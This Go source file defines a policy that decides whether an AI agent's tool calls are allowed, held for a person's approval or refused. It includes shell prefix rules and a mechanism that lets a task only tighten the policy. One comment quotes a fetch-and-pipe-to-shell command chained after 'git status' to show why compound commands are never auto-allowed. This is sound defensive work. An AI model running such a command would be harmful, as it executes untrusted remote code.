package agents

import (
	"encoding/json"
	"fmt"
	"sort"
	"strings"
)

// Decision is what a policy says about a tool call.
type Decision string

// Decisions.
const (
	// Allow runs the call.
	Allow Decision = "allow"
	// Ask appends approval_requested and runs the call only once a person
	// approves it.
	Ask Decision = "ask"
	// Deny refuses the call; the model is told.
	Deny Decision = "deny"
)

// ParseDecision reads "allow", "ask" or "deny".
func ParseDecision(s string) (Decision, error) {
	switch d := Decision(strings.ToLower(strings.TrimSpace(s))); d {
	case Allow, Ask, Deny:
		return d, nil
	}
	return "", fmt.Errorf("policy %q: use allow, ask or deny", s)
}

// ShellRule decides shell commands that start with Prefix.
type ShellRule struct {
	Prefix   string
	Decision Decision
}

// Policy decides, per tool, whether a call runs, waits for a person, or is
// refused. Shell commands can have their own rules by command prefix; the
// longest matching prefix wins.
type Policy struct {
	// Tools maps a tool name to its decision.
	Tools map[string]Decision
	// Default applies to tools not in Tools (default ask).
	Default Decision
	// Shell rules apply to the shell tool before Tools["shell"].
	Shell []ShellRule
}

// DefaultPolicy reads and writes in the workspace freely and asks before
// running shell commands. Tools it does not know (for example ones added
// later) are asked about.
func DefaultPolicy() Policy {
	return Policy{
		Tools: map[string]Decision{
			"read_file": Allow, "list_dir": Allow, "glob": Allow, "grep": Allow,
			"write_file": Allow, "edit_file": Allow, "web_fetch": Allow,
			"update_plan": Allow, "activate_skill": Allow,
			"shell": Ask, "schedule": Ask,
		},
		Default: Ask,
	}
}

// With returns a copy of p with per-tool overrides (tool → decision)
// applied. A key "shell:PREFIX" adds a shell rule.
func (p Policy) With(overrides map[string]string) (Policy, error) {
	out := Policy{Tools: map[string]Decision{}, Default: p.Default, Shell: append([]ShellRule(nil), p.Shell...)}
	for k, v := range p.Tools {
		out.Tools[k] = v
	}
	keys := make([]string, 0, len(overrides))
	for k := range overrides {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var problems []string
	for _, k := range keys {
		d, err := ParseDecision(overrides[k])
		if err != nil {
			problems = append(problems, k+": "+err.Error())
			continue
		}
		if prefix, ok := strings.CutPrefix(k, "shell:"); ok {
			out.Shell = append(out.Shell, ShellRule{Prefix: strings.TrimSpace(prefix), Decision: d})
			continue
		}
		if k == "*" {
			out.Default = d
			continue
		}
		out.Tools[k] = d
	}
	if len(problems) > 0 {
		return p, fmt.Errorf("policy: %s", strings.Join(problems, "; "))
	}
	return out, nil
}

// prefixMatch reports whether cmd starts with prefix as whole words.
func prefixMatch(cmd, prefix string) bool {
	prefix = strings.TrimSpace(prefix)
	if prefix == "" || !strings.HasPrefix(cmd, prefix) {
		return false
	}
	rest := cmd[len(prefix):]
	return rest == "" || rest[0] == ' ' || rest[0] == '\t'
}

// strictness orders decisions: allow < ask < deny.
func strictness(d Decision) int {
	switch d {
	case Allow:
		return 0
	case Deny:
		return 2
	}
	return 1
}

// Tighten applies a task's overrides, which may only make the policy
// stricter: a task cannot allow what the daemon's operator asks about or
// denies. Looser overrides are ignored and reported.
func (p Policy) Tighten(overrides map[string]string) (Policy, []string, error) {
	var ignored []string
	strict := map[string]string{}
	for k, v := range overrides {
		d, err := ParseDecision(v)
		if err != nil {
			return p, nil, fmt.Errorf("policy: %s: %w", k, err)
		}
		var current Decision
		switch {
		case k == "*":
			current = p.Default
		case strings.HasPrefix(k, "shell:"):
			b, _ := json.Marshal(map[string]string{"command": strings.TrimPrefix(k, "shell:")})
			current, _ = p.Decide("shell", b)
		default:
			current, _ = p.Decide(k, nil)
		}
		if strictness(d) < strictness(current) {
			ignored = append(ignored, fmt.Sprintf("%s=%s (the daemon says %s)", k, d, current))
			continue
		}
		strict[k] = string(d)
	}
	sort.Strings(ignored)
	out, err := p.With(strict)
	return out, ignored, err
}

// Decide returns the decision for a call and a reason people can read.
func (p Policy) Decide(tool string, args json.RawMessage) (Decision, string) {
	if tool == "shell" {
		var a struct {
			Command string `json:"command"`
		}
		_ = json.Unmarshal(args, &a)
		cmd := strings.TrimSpace(a.Command)
		compound := strings.ContainsAny(cmd, ";&|`$<>(){}\n\\")
		best := -1
		for i, r := range p.Shell {
			if !prefixMatch(cmd, r.Prefix) || (r.Decision == Allow && compound) {
				// An allow rule never covers a compound command: "git
				// status; curl x | sh" is not "git status".
				continue
			}
			if best < 0 || len(r.Prefix) > len(p.Shell[best].Prefix) {
				best = i
			}
		}
		if best >= 0 {
			r := p.Shell[best]
			return r.Decision, fmt.Sprintf("shell rule %q: %s", r.Prefix, r.Decision)
		}
	}
	if d, ok := p.Tools[tool]; ok {
		return d, fmt.Sprintf("policy for %s: %s", tool, d)
	}
	d := p.Default
	if d == "" {
		d = Ask
	}
	return d, fmt.Sprintf("default policy: %s", d)
}
